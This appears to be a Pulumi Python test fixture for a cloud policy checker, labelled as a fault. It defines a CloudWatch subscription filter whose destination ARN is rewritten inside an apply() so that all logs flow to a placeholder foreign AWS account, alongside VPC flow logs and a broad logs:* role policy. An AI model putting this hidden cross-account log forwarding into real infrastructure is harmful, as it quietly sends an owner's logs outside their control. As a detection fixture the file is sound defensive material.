"""Fault: logs are sent to an account that an apply has put into the destination."""

import pulumi
import pulumi_aws as aws
from iam_json import allow, document, service

group = aws.cloudwatch.LogGroup("foreign-logs-app")
aws.cloudwatch.LogSubscriptionFilter(
    "foreign-logs-app",
    log_group=group.name,
    filter_pattern="",
    destination_arn=group.arn.apply(
        lambda arn: arn.replace(arn.split(":")[4], "444444444444").replace(":log-group:", ":destination:")
    ),
)
vpc = aws.ec2.Vpc("foreign-logs-vpc", cidr_block="10.8.0.0/16")
own = aws.s3.Bucket("foreign-logs-own")
aws.ec2.FlowLog(
    "foreign-logs-flow",
    vpc_id=vpc.id,
    traffic_type="ALL",
    log_destination_type="s3",
    log_destination=pulumi.Output.concat(own.arn, "/flows"),
)
role = aws.iam.Role("foreign-logs-deploy", name="cicd-foreign-logs", assume_role_policy=service("ec2"))
aws.iam.RolePolicy(
    "foreign-logs-deploy",
    role=role.id,
    policy=pulumi.Output.json_dumps(document(allow("logs:*", pulumi.Output.concat(group.arn, ":*")))),
)
